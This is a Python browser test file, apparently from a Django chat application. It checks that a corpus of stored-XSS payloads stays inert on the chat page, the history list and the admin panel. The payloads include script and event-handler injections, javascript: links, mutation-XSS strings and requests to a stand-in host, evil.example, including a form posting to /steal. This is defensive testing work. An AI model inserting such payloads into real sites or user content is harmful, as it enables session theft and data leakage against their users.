"""Stored XSS, in Chromium: a corpus of hostile payloads as model answers, user messages and titles, on the
chat page, the history list and the admin review panel. Nothing runs, nothing leaves 127.0.0.1, no active
element survives the sanitizer (checked in the DOM, so the CSP is a second wall, not the only one), and the
text is shown inert.

Answers come from the fake upstream (`behaviour.reply`) through the real chat service; one message is also
typed into the composer and answered live. pytest-django's live server (on 127.0.0.1) serves the pages (no streaming is
needed to see stored turns), so this runs on the test database of either SQLite or PostgreSQL.
"""

import re

import pytest
from django.test import Client
from playwright.sync_api import sync_playwright

from accounts.models import User
from conversations import answering
from conversations.services import conversation_create, conversation_update
from tests.browser.helpers import ARTIFACTS, launch_chromium

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


# Every payload that executes calls window.__xss_hits.push(...) or asks evil.example for something.
PAYLOADS = [
    "<script>window.__xss_hits.push('script')</script>",
    "<img src=x onerror=\"window.__xss_hits.push('img')\">",
    "<svg onload=\"window.__xss_hits.push('svg')\"><circle r=9 /></svg>",
    "<iframe srcdoc=\"<script>parent.__xss_hits.push('srcdoc')</script>\"></iframe>",
    "[click](javascript:window.__xss_hits.push('md-link'))",
    "[click](JaVaScRiPt:window.__xss_hits.push('md-case'))",
    "[click](&#106;avascript:window.__xss_hits.push('md-entity'))",
    "[ref link][evil]\n\n[evil]: javascript:window.__xss_hits.push('md-ref')",
    "<javascript:window.__xss_hits.push('autolink')>",
    "![pixel](http://evil.example/pixel.png?leak=1)",
    "![proto-relative](//evil.example/p.gif)",
    "<a href=\"data:text/html,<script>parent.__xss_hits.push('data')</script>\">data link</a>",
    "<details open ontoggle=\"window.__xss_hits.push('details')\"><summary>x</summary></details>",
    "<input autofocus onfocus=\"window.__xss_hits.push('autofocus')\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss_hits.push('mxss')>\"></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss_hits.push('math')>",
    "<object data=\"http://evil.example/x.swf\"></object><embed src=\"http://evil.example/y\">",
    "<link rel=stylesheet href=\"http://evil.example/s.css\"><style>@import 'http://evil.example/i.css';</style>",
    "<base href=\"http://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<form action=\"http://evil.example/steal\"><button>go</button></form>",
    "<div style=\"background:url(http://evil.example/bg.png)\">styled</div>",
    "```html\n<script>window.__xss_hits.push('fenced')</script>\n```",
    "\"><script>window.__xss_hits.push('breakout')</script><textarea>",
    "</textarea></template><script>window.__xss_hits.push('template')</script>",
    "{{ request.user }} {% debug %} ${7*7} <%= 7*7 %>",
]
HOSTILE_ANSWER = "\n\n".join(PAYLOADS)
# The page's own feedback comment box (a form with a textarea under each rated answer) is the one form allowed.
ACTIVE_ELEMENTS = "script, iframe, object, embed, link, style, base, meta, form:not(.feedback-comment), input, " \
                  "textarea:not(.feedback-comment > textarea), svg:not(.icon), math, details[open][ontoggle]"
# Runs before any page script (Playwright injects it outside the CSP); records hook calls and CSP blocks.
INIT_SCRIPT = """
window.__xss_hits = [];
window.__csp_violations = [];
document.addEventListener('securitypolicyviolation',
    (e) => window.__csp_violations.push(e.violatedDirective + ' ' + e.blockedURI));
"""


@pytest.fixture(autouse=True)
def _orm_beside_playwright(monkeypatch):
    # Playwright's sync API keeps an event loop running in this thread; the ORM calls that write the
    # test data run strictly between browser calls, never concurrently, which this switch allows.
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")


@pytest.fixture
def hostile_data(fake_upstream, user, make_user):
    """Alice's chats: every payload as a message and as a title, and answers made of all of them."""
    fake_upstream.behaviour.reply = HOSTILE_ANSWER
    chat = conversation_create(owner=user)
    for payload in PAYLOADS[:8]:
        answering.answer(conversation=chat, user=user, content=payload)
    conversation_update(conversation=chat, title=PAYLOADS[1])
    titled = []
    for payload in PAYLOADS:
        conversation = conversation_create(owner=user, title=payload)
        titled.append(conversation)
    messages_only = conversation_create(owner=user, title="messages")
    fake_upstream.behaviour.reply = "plain answer"
    for payload in PAYLOADS[8:]:
        answering.answer(conversation=messages_only, user=user, content=payload)
    fake_upstream.behaviour.reply = HOSTILE_ANSWER
    make_user("root", is_staff=True, is_superuser=True)
    return chat, messages_only, titled


@pytest.fixture
def browser_page(hostile_data, live_server_127):
    """After the data: the chat service's sync calls can't run once Playwright's loop runs in this thread."""
    with sync_playwright() as playwright:
        browser = launch_chromium(playwright)
        context = browser.new_context(base_url=live_server_127.url, viewport={"width": 1280, "height": 900})
        context.add_init_script(INIT_SCRIPT)
        page = context.new_page()
        page.set_default_timeout(15_000)
        page.requests, page.dialogs, page.errors = [], [], []
        page.on("request", lambda request: page.requests.append(request.url))
        page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: page.errors.append(str(error)))
        page.live_url = live_server_127.url
        yield page
        browser.close()


def log_in(page, username, password):
    """A real session cookie for the browser, made with Django's test client (the login form is tested
    elsewhere: here a clean lockout counter matters more than typing a password)."""
    client = Client()
    client.force_login(User.objects.get(username=username))
    cookie = client.cookies["sessionid"]
    page.context.add_cookies([{"name": "sessionid", "value": cookie.value, "url": page.live_url}])


def assert_inert(page, where: str):
    page.mouse.move(200, 200)
    page.mouse.move(640, 450)  # hover and focus handlers would fire now
    page.keyboard.press("Tab")
    page.wait_for_timeout(300)
    offsite = [url for url in page.requests
               if not url.startswith((page.live_url + "/", "data:", "blob:", "about:"))]
    assert page.evaluate("window.__xss_hits") == [], where
    assert offsite == [], where
    assert page.dialogs == [], where
    # The sanitizer, not only the CSP: nothing from a payload became an active element or attribute.
    assert page.evaluate("window.__csp_violations") == [], where
    handlers = page.evaluate("""() => [...document.querySelectorAll('*')].flatMap((el) =>
        [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => el.tagName + ' ' + a.name))""")
    assert handlers == [], where
    bad_links = page.evaluate("""() => [...document.querySelectorAll('[href], [src], [action], [formaction]')]
        .map((el) => el.getAttribute('href') || el.getAttribute('src') || el.getAttribute('action') || '')
        .filter((url) => /^\\s*(javascript|data|vbscript):/i.test(url) || /evil\\.example/.test(url))""")
    assert bad_links == [], where
    assert page.evaluate("document.querySelectorAll('img[src=\"x\"], base, meta[http-equiv]').length") == 0, where
    assert page.errors == [], where
    ARTIFACTS.mkdir(exist_ok=True)
    name = re.sub(r"[^a-z]+", "-", re.sub(r"[0-9a-f-]{36}", "id", where.lower())).strip("-")
    page.screenshot(path=str(ARTIFACTS / f"security-xss-{name}.png"))


def test_payloads_are_inert_in_the_chat_page_and_history(hostile_data, browser_page, password):
    page = browser_page
    chat, messages_only, titled = hostile_data
    log_in(page, "alice", password)

    page.goto(f"/c/{chat.pk}/")
    page.wait_for_selector(".turn-assistant")
    assert_inert(page, "chat page answers")
    turns = page.locator(".turns")
    assert turns.locator(ACTIVE_ELEMENTS).count() == 0
    user_texts = page.locator(".turn-user .turn-body").all_inner_texts()
    assert user_texts == PAYLOADS[:8]  # the messages, verbatim, as text
    answer_text = page.locator(".turn-assistant .markdown").first.inner_text()
    assert "<script>window.__xss_hits.push('script')</script>" in answer_text
    assert "[click](javascript:window.__xss_hits.push('md-link'))" in answer_text
    assert page.locator("#chat-title").inner_text() == PAYLOADS[1]

    # Every title in the history list, as text.
    history_titles = page.locator(".history-link").all_inner_texts()
    for payload in PAYLOADS:
        assert " ".join(payload.split()) in [" ".join(t.split()) for t in history_titles], payload
    assert page.locator("#history, .history, nav").locator(ACTIVE_ELEMENTS).count() == 0

    page.goto(f"/c/{messages_only.pk}/")
    page.wait_for_selector(".turn-user")
    assert_inert(page, "chat page messages")
    assert page.locator(".turn-user .turn-body").all_inner_texts() == PAYLOADS[8:]

    for conversation in titled[:3] + titled[-3:]:
        page.goto(f"/c/{conversation.pk}/")
        assert page.locator("#chat-title").inner_text() == conversation.title
        assert page.title().startswith(conversation.title[:20])
    assert_inert(page, "titles")


def test_a_hostile_message_typed_and_answered_live_is_inert(hostile_data, browser_page, fake_upstream, password):
    page = browser_page
    log_in(page, "alice", password)
    page.goto("/")
    page.wait_for_selector("#composer-input")
    typed = "\n".join(PAYLOADS[:6])
    page.fill("#composer-input", typed)
    page.press("#composer-input", "Enter")
    page.wait_for_selector(".turn-assistant[data-status=complete]", timeout=30_000)
    page.wait_for_timeout(500)
    assert_inert(page, "live answer")
    assert page.locator(".turn-user .turn-body").first.inner_text().strip() == typed.strip()
    assert fake_upstream.chat_requests[-1].messages[-1]["content"] == typed  # sent as typed, stored as typed
    page.reload()
    page.wait_for_selector(".turn-assistant[data-status=complete]")
    assert_inert(page, "live answer reloaded")


def test_payloads_are_inert_in_the_admin(hostile_data, browser_page, password):
    page = browser_page
    chat, messages_only, _ = hostile_data
    log_in(page, "root", password)
    for url in ["/admin/conversations/conversation/", "/admin/conversations/conversation/?q=script",
                f"/admin/conversations/conversation/{chat.pk}/change/",
                f"/admin/conversations/conversation/{messages_only.pk}/change/",
                "/admin/conversations/turn/", "/admin/conversations/turn/?q=onerror"]:
        page.goto(url)
        page.wait_for_load_state("load")
        assert page.locator("#site-name").count() == 1, url
        assert_inert(page, f"admin {url}")
    page.goto(f"/admin/conversations/conversation/{chat.pk}/change/")
    body = page.locator("body").inner_text()
    assert "<script>window.__xss_hits.push('script')</script>" in body
    assert page.locator(".review-turn-content").count() >= 2 * len(PAYLOADS[:8])
    assert page.locator(".review-turn-content").locator(ACTIVE_ELEMENTS).count() == 0
    # The admin's own scripts are files (script-src 'self'); none is inline, none came from a payload.
    assert page.locator("#content script:not([src]):not([type='application/json'])").count() == 0
    assert page.locator("#content iframe, #content object, #content embed").count() == 0
